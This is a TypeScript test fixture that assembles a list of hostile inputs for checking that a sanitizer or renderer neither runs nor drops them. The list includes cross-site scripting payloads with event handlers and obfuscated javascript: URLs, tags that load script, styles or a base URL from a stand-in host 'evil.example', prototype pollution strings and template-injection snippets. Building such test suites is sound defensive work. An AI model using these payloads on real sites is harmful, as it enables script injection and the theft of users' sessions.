import { readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

export interface HostileInput {
  readonly id: string;
  readonly payload: string;
}

const RUN = 'alert(1)';
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'iframe',
  'details open',
  'video src=x',
  'input autofocus',
  'object data=x',
  'math',
  'p',
  'a href=#',
  'table',
];
const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'ontoggle',
  'onmouseover',
  'onanimationstart',
  'onpointerenter',
];
/** Spellings of the same handler. */
const SPELLINGS: readonly ((tag: string, handler: string) => string)[] = [
  (tag, handler) => `<${tag} ${handler}=${RUN}>`,
  (tag, handler) => `<${tag}/${handler}="${RUN}"//>`,
  (tag, handler) => `<${tag.toUpperCase()}\n${handler.toUpperCase()}\t=\r'${RUN}'`,
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'data:image/svg+xml,<svg onload=alert(1)>',
  '//evil.example/',
  '/\\evil.example/',
  'https://site.example@evil.example/',
];
const CARRIERS: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<img src="${address}">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<meta http-equiv="refresh" content="0;url=${address}">`,
];

/** Text that breaks out of its context, hooks of features, names of object prototypes. */
const OTHERS = [
  `<script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src=//evil.example/x.js></script>`,
  `</textarea><script>${RUN}</script>`,
  `</title></style></xmp></noscript><img src=x onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `' onmouseover='${RUN}`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<style>*{background:url("javascript:${RUN}")}</style>`,
  `<p style="background:url(javascript:${RUN})">x</p>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mi><p><style><img src=x onerror=${RUN}></style></p></mi></math>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<a data-overlay="//evil.example" href="/">x</a>`,
  `<a rel="lightbox" href="//evil.example">x</a>`,
  `<div data-listing="x"><!-- listing {"url":"//evil.example"} --></div>`,
  `<p id="vitrine-settings">{}</p>`,
  `<form id="vitrine"><input name="ready"></form>`,
  `<base href="//evil.example/">`,
  `<link rel="stylesheet" href="//evil.example/x.css">`,
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of an attack.
  '${alert(1)}',
  '__proto__',
  '{"__proto__":{"polluted":1}}',
  'constructor[prototype][polluted]=1',
  `${'<b>'.repeat(500)}x`,
  '\u0000<img src=x onerror=alert(1)>',
  '＜script＞alert(1)＜/script＞',
];

/** Fixed payloads, by the weakness that they test. */
const COLLECTION: Readonly<Record<string, readonly string[]>> = JSON.parse(
  readFileSync(path.join(path.dirname(fileURLToPath(import.meta.url)), 'data/hostile-inputs.json'), 'utf8'),
);

const composed = [
  ...TAGS.flatMap((tag, row) =>
    HANDLERS.map((handler, column) => SPELLINGS[(row + column) % SPELLINGS.length]?.(tag, handler) ?? ''),
  ),
  ...CARRIERS.flatMap((carrier) => ADDRESSES.map(carrier)),
  ...OTHERS,
].map((payload, index) => ({ id: `own-${index + 1}`, payload }));

const collected = Object.entries(COLLECTION).flatMap(([family, payloads]) =>
  payloads.map((payload, index) => ({ id: `${family} ${index + 1}`, payload })),
);

/** Texts of attackers: none may run, and as plain text none may be lost. */
export const hostileInputs: readonly HostileInput[] = [...composed, ...collected];
